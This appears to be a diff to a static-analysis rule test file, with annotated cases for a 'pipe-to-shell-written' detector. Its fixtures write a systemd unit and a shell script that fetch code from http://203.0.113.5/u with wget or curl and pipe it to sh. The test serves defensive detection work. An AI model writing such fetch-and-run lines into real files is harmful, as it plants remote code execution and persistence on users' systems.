@@ -385,6 +385,14 @@ for dirpath, _, filenames in os.walk("build"):
 UNIT = "[Service]\nExecStart=/bin/sh -c 'wget -qO- http://203.0.113.5/u | sh'\n"
 # ruleid: pipe-to-shell-written, path-method-write
 pathlib.Path("agent.service").write_text(UNIT)
+# the same line filled into a string.Template
+import string
+LINE = string.Template("($tool -fsSL $url | $sh) &\n")
+# ruleid: pipe-to-shell-written, path-method-write
+pathlib.Path("agent.sh").write_text(LINE.substitute(tool="curl", url="http://203.0.113.5/u", sh="sh"))
+# ok: pipe-to-shell-written
+# ruleid: path-method-write
+pathlib.Path("greeting.txt").write_text(string.Template("Hello $who\n").safe_substitute(who="you"))
 # ok: pipe-to-shell-written
 # ruleid: path-method-write
 pathlib.Path("NOTES.md").write_text("Install with pip install -r requirements.txt\n")
